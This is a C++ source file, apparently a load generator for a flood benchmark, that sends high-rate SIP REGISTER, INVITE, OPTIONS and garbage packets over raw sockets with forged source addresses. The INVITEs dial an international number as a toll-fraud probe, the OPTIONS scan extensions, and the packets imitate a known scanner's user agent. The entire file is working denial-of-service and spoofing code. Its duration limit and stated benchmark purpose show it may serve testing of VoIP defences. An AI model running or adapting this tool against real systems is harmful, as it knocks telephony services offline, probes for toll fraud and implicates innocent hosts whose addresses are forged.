// SIP flood sender for the flood benchmark: UDP packets to one SIP port with forged source
// addresses, written through a raw socket (IP_HDRINCL), so one process stands for thousands of
// senders and the target's answers go to addresses nobody listens on.
//
//   sip_flood --to IP:PORT --from CIDR [--sources N] [--rate PPS] [--duration S]
//             [--mix register=1,invite=1,options=1,garbage=1] [--seed N]
//
// --from: the forged sources are N distinct addresses spread over CIDR (its network and
// broadcast addresses left out), each packet from one of them picked at random, with a random
// source port. --rate 0 sends as fast as the kernel takes packets. Every packet is a new
// request: fresh Call-ID, branch and tag, a random user (an extension scan), so nothing can be
// matched to an earlier transaction. INVITEs carry SDP and ask for an international number (the
// toll-fraud probe); garbage is random bytes of random length.
//
// Needs CAP_NET_RAW. Runs for --duration seconds at most (bounded: 0.1..600; SIGTERM ends it
// early) and prints one line a second and a final line of key=value:
//   flood_done sent=... elapsed_s=... pps=... register=... invite=... options=... garbage=... errors=...
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <string_view>
#include <vector>

namespace {

volatile sig_atomic_t g_stop = 0;  // SIGTERM/SIGINT: stop early, still print the totals
void on_signal(int) { g_stop = 1; }

using Ns = int64_t;
Ns now_ns() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return Ns{ts.tv_sec} * 1'000'000'000 + ts.tv_nsec;
}

void sleep_until(Ns when) {
  timespec ts{};
  ts.tv_sec = static_cast<time_t>(when / 1'000'000'000);
  ts.tv_nsec = static_cast<long>(when % 1'000'000'000);
  while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, nullptr) == EINTR && !g_stop) {
  }
}

enum Kind { kRegister, kInvite, kOptions, kGarbage, kKinds };
constexpr std::array<const char*, kKinds> kKindNames{"register", "invite", "options", "garbage"};

constexpr size_t kIpHeader = 20;
constexpr size_t kUdpHeader = 8;
constexpr size_t kMaxPayload = 1400;  // under a 1500-byte MTU with both headers
constexpr size_t kBatch = 64;

struct Options {
  in_addr_t to_ip = 0;
  uint16_t to_port = 0;
  uint32_t from_net = 0;  // host order
  int from_prefix = 0;
  uint32_t sources = 1000;
  double rate = 0;
  double duration = 10;
  std::array<unsigned, kKinds> mix{1, 1, 1, 1};
  uint64_t seed = 0;
};

[[noreturn]] void usage(const char* why) {
  std::fprintf(stderr,
               "sip_flood: %s\nusage: sip_flood --to IP:PORT --from CIDR [--sources N] [--rate PPS] "
               "[--duration S] [--mix register=1,invite=1,options=1,garbage=1] [--seed N]\n",
               why);
  std::exit(2);
}

void parse_mix(const std::string& text, std::array<unsigned, kKinds>& mix) {
  mix.fill(0);
  size_t at = 0;
  while (at < text.size()) {
    size_t comma = text.find(',', at);
    if (comma == std::string::npos) comma = text.size();
    const std::string item = text.substr(at, comma - at);
    const size_t eq = item.find('=');
    if (eq == std::string::npos) usage("--mix wants kind=weight,...");
    const std::string name = item.substr(0, eq);
    bool known = false;
    for (size_t k = 0; k < kKinds; ++k) {
      if (name == kKindNames[k]) {
        mix[k] = static_cast<unsigned>(std::strtoul(item.c_str() + eq + 1, nullptr, 10));
        known = true;
      }
    }
    if (!known) usage("--mix kinds are register, invite, options, garbage");
    at = comma + 1;
  }
  unsigned total = 0;
  for (unsigned w : mix) total += w;
  if (total == 0) usage("--mix has no weight above 0");
}

Options parse(int argc, char** argv) {
  Options o;
  for (int i = 1; i + 1 < argc; i += 2) {
    const std::string k = argv[i], v = argv[i + 1];
    if (k == "--to") {
      const size_t colon = v.rfind(':');
      if (colon == std::string::npos) usage("--to wants IP:PORT");
      in_addr a{};
      if (inet_pton(AF_INET, v.substr(0, colon).c_str(), &a) != 1) usage("--to: not an IPv4 address");
      o.to_ip = a.s_addr;
      o.to_port = static_cast<uint16_t>(std::strtoul(v.c_str() + colon + 1, nullptr, 10));
    } else if (k == "--from") {
      const size_t slash = v.find('/');
      if (slash == std::string::npos) usage("--from wants a CIDR");
      in_addr a{};
      if (inet_pton(AF_INET, v.substr(0, slash).c_str(), &a) != 1) usage("--from: not an IPv4 network");
      o.from_prefix = std::atoi(v.c_str() + slash + 1);
      if (o.from_prefix < 8 || o.from_prefix > 30) usage("--from: prefix length 8..30");
      const uint32_t mask = ~uint32_t{0} << (32 - o.from_prefix);
      o.from_net = ntohl(a.s_addr) & mask;
    } else if (k == "--sources") {
      o.sources = static_cast<uint32_t>(std::strtoul(v.c_str(), nullptr, 10));
    } else if (k == "--rate") {
      o.rate = std::strtod(v.c_str(), nullptr);
    } else if (k == "--duration") {
      o.duration = std::strtod(v.c_str(), nullptr);
    } else if (k == "--mix") {
      parse_mix(v, o.mix);
    } else if (k == "--seed") {
      o.seed = std::strtoull(v.c_str(), nullptr, 10);
    } else {
      usage(("unknown option " + k).c_str());
    }
  }
  if (o.to_ip == 0 || o.to_port == 0) usage("--to is required");
  if (o.from_prefix == 0) usage("--from is required");
  // Bounded load: the benchmark never leaves a sender running by mistake.
  if (o.duration < 0.1 || o.duration > 600) usage("--duration: 0.1..600 s");
  if (o.rate < 0) usage("--rate: 0 (as fast as possible) or more");
  const uint32_t hosts = (uint32_t{1} << (32 - o.from_prefix)) - 2;
  if (o.sources < 1 || o.sources > hosts) usage("--sources: 1 .. the number of hosts in --from");
  return o;
}

// A packet's text, built in place: small appends are all it needs, and cheaper than
// snprintf at a million packets a second.
class Writer {
 public:
  Writer(char* buf, size_t cap) : buf_(buf), cap_(cap) {}
  Writer& s(std::string_view text) {
    const size_t n = std::min(text.size(), cap_ - len_);
    std::memcpy(buf_ + len_, text.data(), n);
    len_ += n;
    return *this;
  }
  Writer& u(uint64_t v) {
    char tmp[20];
    size_t n = 0;
    do {
      tmp[n++] = static_cast<char>('0' + v % 10);
      v /= 10;
    } while (v != 0);
    while (n > 0 && len_ < cap_) buf_[len_++] = tmp[--n];
    return *this;
  }
  Writer& hex(uint64_t v, int digits) {
    static constexpr char kHex[] = "0123456789abcdef";
    for (int i = digits - 1; i >= 0 && len_ < cap_; --i) buf_[len_++] = kHex[(v >> (4 * i)) & 0xf];
    return *this;
  }
  Writer& ip(uint32_t host_order) {
    return u(host_order >> 24).s(".").u((host_order >> 16) & 0xff).s(".").u((host_order >> 8) & 0xff).s(".").u(
        host_order & 0xff);
  }
  size_t size() const { return len_; }
  char* at(size_t pos) { return buf_ + pos; }

 private:
  char* buf_;
  size_t cap_;
  size_t len_ = 0;
};

constexpr std::string_view kSdp =
    "v=0\r\no=- 1 1 IN IP4 0.0.0.0\r\ns=-\r\nc=IN IP4 0.0.0.0\r\nt=0 0\r\n"
    "m=audio 16000 RTP/AVP 8 0 101\r\na=rtpmap:8 PCMA/8000\r\na=rtpmap:0 PCMU/8000\r\n"
    "a=rtpmap:101 telephone-event/8000\r\na=sendrecv\r\n";

struct Flood {
  Options o;
  std::mt19937_64 rng;
  std::string to_text;  // the target's address, for Request-URIs
  std::vector<uint32_t> sources;

  explicit Flood(const Options& opts) : o(opts), rng(opts.seed ? opts.seed : static_cast<uint64_t>(now_ns())) {
    in_addr a{};
    a.s_addr = o.to_ip;
    to_text = inet_ntoa(a);
    // N distinct hosts spread evenly over the range (host numbers 1 .. size-2).
    const uint64_t hosts = (uint64_t{1} << (32 - o.from_prefix)) - 2;
    sources.reserve(o.sources);
    for (uint64_t i = 0; i < o.sources; ++i) {
      sources.push_back(o.from_net + 1 + static_cast<uint32_t>(i * hosts / o.sources));
    }
  }

  Kind pick_kind() {
    unsigned total = 0;
    for (unsigned w : o.mix) total += w;
    unsigned r = static_cast<unsigned>(rng() % total);
    for (size_t k = 0; k < kKinds; ++k) {
      if (r < o.mix[k]) return static_cast<Kind>(k);
      r -= o.mix[k];
    }
    return kGarbage;
  }

  // Writes one IPv4+UDP packet into `pkt`; returns its length.
  size_t build(uint8_t* pkt, Kind kind) {
    const uint32_t src = sources[rng() % sources.size()];
    const auto sport = static_cast<uint16_t>(1024 + rng() % (65536 - 1024));
    char* payload = reinterpret_cast<char*>(pkt + kIpHeader + kUdpHeader);
    size_t len = 0;
    if (kind == kGarbage) {
      len = 16 + rng() % (kMaxPayload - 16);
      for (size_t i = 0; i < len; i += 8) {
        const uint64_t r = rng();
        std::memcpy(payload + i, &r, std::min<size_t>(8, len - i));
      }
    } else {
      const uint64_t call_id = rng(), branch = rng(), tag = rng();
      const uint64_t user = 100 + rng() % 9900;
      const std::string_view method = kind == kRegister ? "REGISTER" : kind == kInvite ? "INVITE" : "OPTIONS";
      Writer w(payload, kMaxPayload);
      w.s(method).s(" sip:");
      if (kind == kInvite) {
        w.s("00972").u(100000000 + rng() % 900000000).s("@");
      } else if (kind == kOptions) {
        w.u(user).s("@");
      }
      w.s(to_text).s(" SIP/2.0\r\n");
      w.s("Via: SIP/2.0/UDP ").ip(src).s(":").u(sport).s(";branch=z9hG4bK").hex(branch, 16).s(";rport\r\n");
      w.s("Max-Forwards: 70\r\n");
      w.s("From: <sip:").u(user).s("@").s(to_text).s(">;tag=").hex(tag, 8).s("\r\n");
      w.s("To: <sip:");
      if (kind == kInvite) {
        w.s("00972123456789@");
      } else {
        w.u(user).s("@");
      }
      w.s(to_text).s(">\r\n");
      w.s("Call-ID: ").hex(call_id, 16).s("@").ip(src).s("\r\n");
      w.s("CSeq: 1 ").s(method).s("\r\n");
      if (kind != kOptions) w.s("Contact: <sip:").u(user).s("@").ip(src).s(":").u(sport).s(">\r\n");
      if (kind == kRegister) w.s("Expires: 3600\r\n");
      w.s("User-Agent: friendly-scanner\r\n");
      if (kind == kInvite) {
        w.s("Content-Type: application/sdp\r\nContent-Length: ").u(kSdp.size()).s("\r\n\r\n").s(kSdp);
      } else {
        w.s("Accept: application/sdp\r\nContent-Length: 0\r\n\r\n");
      }
      len = w.size();
    }
    // IPv4 header: the kernel fills in the checksum, the total length and (left 0) the ID.
    std::memset(pkt, 0, kIpHeader + kUdpHeader);
    pkt[0] = 0x45;
    pkt[8] = 64;  // TTL
    pkt[9] = IPPROTO_UDP;
    const uint32_t src_be = htonl(src);
    std::memcpy(pkt + 12, &src_be, 4);
    std::memcpy(pkt + 16, &o.to_ip, 4);
    const uint16_t tot = htons(static_cast<uint16_t>(kIpHeader + kUdpHeader + len));
    std::memcpy(pkt + 2, &tot, 2);
    // UDP header; checksum 0 means "none" in IPv4.
    const uint16_t sport_be = htons(sport), dport_be = htons(o.to_port);
    const uint16_t ulen = htons(static_cast<uint16_t>(kUdpHeader + len));
    std::memcpy(pkt + kIpHeader, &sport_be, 2);
    std::memcpy(pkt + kIpHeader + 2, &dport_be, 2);
    std::memcpy(pkt + kIpHeader + 4, &ulen, 2);
    return kIpHeader + kUdpHeader + len;
  }
};

}  // namespace

int main(int argc, char** argv) {
  const Options o = parse(argc, argv);
  struct sigaction sa {};
  sa.sa_handler = on_signal;
  sigaction(SIGTERM, &sa, nullptr);
  sigaction(SIGINT, &sa, nullptr);
  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // IPPROTO_RAW implies IP_HDRINCL
  if (fd < 0) {
    std::perror("sip_flood: raw socket (needs CAP_NET_RAW)");
    return 1;
  }
  const int one = 1;
  setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof one);
  const int sndbuf = 4 << 20;
  setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);

  Flood flood(o);
  sockaddr_in dst{};
  dst.sin_family = AF_INET;
  dst.sin_addr.s_addr = o.to_ip;

  std::vector<std::array<uint8_t, kIpHeader + kUdpHeader + kMaxPayload>> bufs(kBatch);
  std::array<iovec, kBatch> iov{};
  std::array<mmsghdr, kBatch> msgs{};
  std::array<Kind, kBatch> kinds{};
  std::array<uint64_t, kKinds> by_kind{};
  uint64_t sent = 0, errors = 0, last_sent = 0;

  const Ns start = now_ns();
  const Ns end = start + static_cast<Ns>(o.duration * 1e9);
  Ns next_report = start + 1'000'000'000;
  while (true) {
    const Ns now = now_ns();
    if (now >= end || g_stop) break;
    if (now >= next_report) {
      std::printf("flood t=%.0f sent=%llu pps=%llu\n", static_cast<double>(now - start) / 1e9,
                  static_cast<unsigned long long>(sent), static_cast<unsigned long long>(sent - last_sent));
      std::fflush(stdout);
      last_sent = sent;
      next_report += 1'000'000'000;
    }
    size_t n = kBatch;
    if (o.rate > 0) {
      // Paced: send what is due by now (at most a batch); else sleep until the next one is due.
      const auto due = static_cast<uint64_t>(o.rate * static_cast<double>(now - start) / 1e9) + 1;
      if (due <= sent) {
        const Ns next = start + static_cast<Ns>(static_cast<double>(sent) * 1e9 / o.rate);
        sleep_until(std::min({next, end, next_report}));
        continue;
      }
      n = std::min<uint64_t>(kBatch, due - sent);
    }
    for (size_t i = 0; i < n; ++i) {
      kinds[i] = flood.pick_kind();
      iov[i].iov_base = bufs[i].data();
      iov[i].iov_len = flood.build(bufs[i].data(), kinds[i]);
      msgs[i].msg_hdr = msghdr{};
      msgs[i].msg_hdr.msg_name = &dst;
      msgs[i].msg_hdr.msg_namelen = sizeof dst;
      msgs[i].msg_hdr.msg_iov = &iov[i];
      msgs[i].msg_hdr.msg_iovlen = 1;
    }
    const int r = sendmmsg(fd, msgs.data(), static_cast<unsigned>(n), 0);
    if (r < 0) {
      ++errors;
      if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
        std::perror("sip_flood: sendmmsg");
        break;
      }
      continue;
    }
    for (int i = 0; i < r; ++i) ++by_kind[kinds[static_cast<size_t>(i)]];
    sent += static_cast<uint64_t>(r);
  }
  const double elapsed = static_cast<double>(now_ns() - start) / 1e9;
  close(fd);
  std::printf("flood_done sent=%llu elapsed_s=%.2f pps=%.0f", static_cast<unsigned long long>(sent), elapsed,
              static_cast<double>(sent) / elapsed);
  for (size_t k = 0; k < kKinds; ++k) {
    std::printf(" %s=%llu", kKindNames[k], static_cast<unsigned long long>(by_kind[k]));
  }
  std::printf(" errors=%llu\n", static_cast<unsigned long long>(errors));
  return 0;
}
